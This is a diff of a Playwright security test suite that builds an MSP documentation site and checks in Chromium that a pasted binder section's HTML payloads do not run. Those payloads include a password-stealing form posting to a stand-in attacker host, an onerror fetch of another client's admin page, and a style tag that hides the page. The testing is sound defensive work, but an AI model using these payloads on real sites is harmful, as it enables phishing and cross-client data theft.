@@ -1,5 +1,5 @@
 import { existsSync, readFileSync, statSync } from 'node:fs';
-import { readFile } from 'node:fs/promises';
+import { readFile, rm, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { type Browser, chromium } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -29,6 +29,18 @@ const PAYLOADS = [
   '<form action="https://evil.example/steal"><input type="password" name="pw" placeholder="Portal password"><button>Log in</button></form>',
   'An unclosed comment starts here <!-- and would hide every later comment',
 ];
+const CONTENT_PAYLOAD_FILE = 'content/clients/acme-dental/binder/pasted.md';
+const CONTENT_PAYLOAD_SECTION = `---\ntitle: Pasted from the old wiki\norder: 90\n---\n${[
+  'Kept from the old wiki: <kbd>Ctrl</kbd>+<kbd>Alt</kbd>, <abbr title="Uninterruptible power supply">UPS</abbr>.',
+  // An image that cannot load, so an `onerror` that survived would run (a relative `src=x` would
+  // fail the build's link check instead: `binder check` reports it).
+  ...PAYLOADS.filter((payload) => !payload.includes('unclosed comment')).map((payload) =>
+    payload.replace('src=x', 'src="https://example.invalid/x.png"'),
+  ),
+  '<img src="https://example.invalid/ups.png" onerror="fetch(\'/clients/globex-law/binder/admin-access/\')">',
+  '<style>main{display:none}</style>',
+  'The end of the pasted page.',
+].join('\n\n')}\n`;
 const STAFF_ONLY = 'The server closet key is kept under the plant pot by reception.';
 const FOR_CLIENT = 'For the client: we recommend replacing the nine-year-old switch in the front office.';
 const PASSWORD = 'Kibble#2024-Tr0ub4dor';
@@ -147,8 +159,13 @@ beforeAll(async () => {
   archiveOutput = `${archive.stdout}\n${archive.stderr}`;
   expect(archive.code, archiveOutput).toBe(0);
 
+  // Content files are input too: a binder section as a pull request could bring it (issue
+  // "Adopted by a real MSP"). Written only for the builds: `sync` skips a client whose files fail
+  // `check`, and the archive tests above compare the repository's state.
+  await writeFile(path.join(root, CONTENT_PAYLOAD_FILE), CONTENT_PAYLOAD_SECTION);
   staffDist = (await buildCheckout(root)).dist;
   clientDist = (await buildCheckout(root, { client: 'acme-dental' })).dist;
+  await rm(path.join(root, CONTENT_PAYLOAD_FILE));
   browser = await chromium.launch({
     executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
     args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update'],
@@ -164,6 +181,48 @@ afterAll(async () => {
 /** Whether a built site holds a text anywhere (HTML, JS, Pagefind's compressed index). */
 async function siteHolds(dist: string, text: string): Promise<boolean> {
   return (await findLeaks(dist, [{ text: text.toLowerCase(), source: 'probe', token: false }])).length > 0;
+}
+
+/** Opens a page in Chromium, toggles its details, and reports dialogs, requests and risky DOM. */
+async function openAndProbe(url: string) {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  const dialogs: string[] = [];
+  const requests: string[] = [];
+  page.on('dialog', async (dialog) => {
+    dialogs.push(dialog.message());
+    await dialog.dismiss();
+  });
+  page.on('request', (request) => requests.push(request.url()));
+  await page.goto(url, { waitUntil: 'networkidle' });
+  await page.evaluate(() => {
+    for (const details of document.querySelectorAll('details')) details.open = !details.open;
+  });
+  await page.waitForTimeout(300);
+  const dom = await page.evaluate(() => {
+    const main = document.querySelector('main') ?? document.body;
+    return {
+      handlers: [...main.querySelectorAll('*')].flatMap((element) =>
+        [...element.attributes]
+          .filter((attribute) => attribute.name.startsWith('on'))
+          .map((attribute) => `${element.tagName}.${attribute.name}`),
+      ),
+      dangerous: main.querySelectorAll(
+        'script, iframe, object, embed, form, input:not([type=checkbox]), base, meta',
+      ).length,
+      javascriptLinks: [...main.querySelectorAll('a')].filter((a) =>
+        /^\s*javascript:/i.test(a.getAttribute('href') ?? ''),
+      ).length,
+      // In the page's content (the site's own icons carry a style of their own).
+      styles: [...main.querySelectorAll('.sl-markdown-content :is(style, [style]:not(th, td))')].map(
+        (element) => element.outerHTML.slice(0, 200),
+      ),
+      visible: getComputedStyle(main).display !== 'none',
+      text: main.textContent ?? '',
+    };
+  });
+  await context.close();
+  return { dialogs, requests, dom };
 }
 
 describe('issue data is untrusted input', () => {
@@ -263,6 +322,30 @@ describe('issue data is untrusted input', () => {
     const { leaks } = await checkClientSite(root, clientDist, 'acme-dental');
     expect(leaks).toEqual([]);
   });
+
+  it.each(['staff', 'client'])(
+    'the %s site runs none of a binder section’s HTML payloads in Chromium',
+    async (variant) => {
+      const server = await serveDirectory(variant === 'staff' ? staffDist : clientDist);
+      try {
+        const { dialogs, requests, dom } = await openAndProbe(
+          `${server.url}/clients/acme-dental/binder/pasted/`,
+        );
+        expect(dialogs).toEqual([]);
+        expect(requests.filter((url) => url.includes('/clients/globex-law'))).toEqual([]);
+        expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
+        expect(dom.handlers).toEqual([]);
+        expect(dom.dangerous).toBe(0);
+        expect(dom.javascriptLinks).toBe(0);
+        expect(dom.styles).toEqual([]);
+        expect(dom.visible).toBe(true);
+        expect(dom.text).toContain('The end of the pasted page.');
+        expect(dom.text).toContain('UPS');
+      } finally {
+        await server.close();
+      }
+    },
+  );
 
   it.each(['staff', 'client'])(
     'the %s checklist page runs none of the payloads in Chromium',
